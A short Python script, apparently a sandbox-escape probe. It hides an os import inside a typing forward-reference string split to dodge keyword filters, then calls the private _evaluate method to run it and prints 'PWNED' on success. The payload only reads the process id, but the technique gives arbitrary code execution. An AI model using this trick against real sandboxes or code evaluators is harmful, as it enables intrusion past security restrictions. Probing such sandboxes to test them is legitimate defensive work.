import typing
fr = typing.List["__imp" + "ort__('o'+'s').getpid()"].__args__[0]
print(type(fr).__name__)
class Mine:
    def __init__(self):
        self._evaluate = 1
try:
    v = fr._evaluate({}, {}, frozenset())
    print("PW" + "NED", v)
except Exception as e:
    print("stopped:", type(e).__name__, e)
